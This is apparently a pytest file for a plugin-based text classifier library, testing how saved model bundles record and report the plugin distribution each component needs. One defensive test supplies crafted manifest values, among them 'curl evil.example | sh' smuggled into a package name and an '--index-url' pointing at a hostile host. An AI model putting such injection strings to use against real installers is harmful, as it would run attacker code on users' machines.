"""A bundle knows which plugin it needs, and says so where that is missing."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.builders import note_checksums, tiny_classifier
from tests.plugins.distributions import Install, installer
from tocsin.arguments import Origin
from tocsin.bundles.card import model_card
from tocsin.bundles.load import ROLES, load_bundle
from tocsin.bundles.save import save_bundle
from tocsin.errors import BundleError
from tocsin.plugins.discovery import GROUP
from tocsin.plugins.manager import load_plugins
from tocsin.text.cleaners import NoCleaner

SOURCE = """
from torch import nn
from tocsin.plugins import Head, hookimpl

class OriginHead(Head):
    '''One linear layer.

    Args:
        scale: Factor on the logits.
    '''
    needs = "vector"

    def __init__(self, scale: float = 1.0) -> None:
        super().__init__()
        self.scale = scale

    def build(self, encoder_config, labels, pooler=None) -> None:
        self.linear = nn.Linear(encoder_config.hidden_size, labels)

    def forward(self, hidden_BTD, mask_BT, vector_BD):
        return self.linear(vector_BD) * self.scale

@hookimpl
def tocsin_heads():
    return [OriginHead]
"""


@pytest.fixture
def install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Install:
    from importlib import metadata

    from tocsin.plugins import discovery

    ours = tmp_path / "site"
    everything = metadata.distributions
    monkeypatch.setattr(discovery, "distributions", lambda: everything(path=[str(ours)]))
    return installer(ours, monkeypatch)


@pytest.fixture
def bundle(install: Install, tmp_path: Path) -> Path:
    install(
        "tocsin-origin",
        version="0.3.1",
        entry_points={GROUP: {"o": "origin_head"}},
        modules={"origin_head": SOURCE},
    )
    registry = load_plugins({}, roles=ROLES)
    model = tiny_classifier(tmp_path / "encoder", head="linear")
    model.head = registry.find("head", "OriginHead")(scale=2.0)
    model.configure_model()
    folder = tmp_path / "bundle"
    options: dict[str, Any] = {"cleaner": NoCleaner(), "max_length": 32, "card": "# card", "version": "0"}
    save_bundle(folder, model, origin=registry.origin, **options)
    return folder


def without_the_plugin(tmp_path: Path) -> None:
    for path in (tmp_path / "site").glob("*.dist-info/*"):
        path.unlink()
    (tmp_path / "site" / "origin_head.py").unlink()
    next((tmp_path / "site").glob("*.dist-info")).rmdir()


def test_the_manifest_names_the_distribution_of_each_component(bundle: Path) -> None:
    written = json.loads((bundle / "tocsin.json").read_text())
    assert written["head"] == {
        "name": "OriginHead",
        "arguments": {"scale": 2.0},
        "origin": {"distribution": "tocsin-origin", "version": "0.3.1"},
    }
    assert written["pooling"]["origin"]["distribution"] == "tocsin"
    loaded = load_bundle(bundle, load_plugins({}, roles=ROLES))
    assert loaded.manifest.head.origin == Origin("tocsin-origin", "0.3.1")
    assert loaded.predict(["water", "fire"]).probabilities.shape == (2, 3)


def test_without_the_plugin_it_says_what_to_install(bundle: Path, tmp_path: Path) -> None:
    without_the_plugin(tmp_path)
    with pytest.raises(BundleError) as caught:
        load_bundle(bundle, load_plugins({}, roles=ROLES))
    told = str(caught.value)
    assert (
        "needs the head OriginHead, which the plugin tocsin-origin 0.3.1 offers, and that is not installed"
        in told
    )
    assert "pip install tocsin-origin==0.3.1" in told
    assert "No head is called 'OriginHead'" in told


def test_with_the_plugin_off_it_says_why(bundle: Path) -> None:
    with pytest.raises(BundleError) as caught:
        load_bundle(bundle, load_plugins({"TOCSIN_PLUGINS": "off"}, roles=ROLES))
    told = str(caught.value)
    assert "which the plugin tocsin-origin 0.3.1 offers; it is not in use here" in told
    assert "o (tocsin-origin 0.3.1): switched off by TOCSIN_PLUGINS" in told


def test_another_version_is_named_when_the_head_does_not_fit(bundle: Path) -> None:
    written = json.loads((bundle / "tocsin.json").read_text())
    written["head"]["arguments"] = {"scale": 2.0, "colour": "red"}
    written["head"]["origin"]["version"] = "0.2"
    note_checksums(bundle, lambda _: written)
    with pytest.raises(
        BundleError, match=r"other arguments .*written with tocsin-origin 0\.2, here is tocsin-origin 0\.3\.1"
    ):
        load_bundle(bundle, load_plugins({}, roles=ROLES))


@pytest.mark.parametrize(
    "origin",
    [
        {"distribution": "x; curl evil.example | sh", "version": "1"},
        {"distribution": "x", "version": "1 --index-url http://evil.example"},
        {"distribution": "-r", "version": "1"},
        {"distribution": 7, "version": "1"},
        {"distribution": "x"},
        "x 1",
    ],
)
def test_a_crafted_origin_never_reaches_the_message(bundle: Path, tmp_path: Path, origin: Any) -> None:
    written = json.loads((bundle / "tocsin.json").read_text())
    written["head"]["origin"] = origin
    note_checksums(bundle, lambda _: written)
    without_the_plugin(tmp_path)
    with pytest.raises(BundleError, match="is damaged") as caught:
        load_bundle(bundle, load_plugins({}, roles=ROLES))
    assert "pip install" not in str(caught.value)


def test_a_bundle_of_before_origins_loads(bundle: Path) -> None:
    written = json.loads((bundle / "tocsin.json").read_text())
    for part in ("head", "pooling", "cleaner"):
        del written[part]["origin"]
    note_checksums(bundle, lambda _: written)
    assert load_bundle(bundle, load_plugins({}, roles=ROLES)).manifest.head.origin is None


@pytest.mark.parametrize("origin", [Origin("größe", "1"), Origin("half-installed", None)])  # type: ignore[arg-type]
def test_an_origin_that_nobody_could_install_is_not_written(tmp_path: Path, origin: Origin) -> None:
    model = tiny_classifier(tmp_path / "encoder", head="linear")
    model.configure_model()
    folder = tmp_path / "bundle"
    card = model_card("model", model, None, {}, max_length=32, cleaner="NoCleaner", plugins=[origin])
    assert f"come from `{origin.distribution}`:" in card
    options: dict[str, Any] = {"cleaner": NoCleaner(), "max_length": 32, "card": card, "version": "0"}
    save_bundle(folder, model, origin=lambda component: origin, **options)
    assert json.loads((folder / "tocsin.json").read_text())["head"]["origin"] is None
    assert (
        load_bundle(folder, load_plugins({"TOCSIN_PLUGINS": "off"}, roles=ROLES)).manifest.head.origin is None
    )
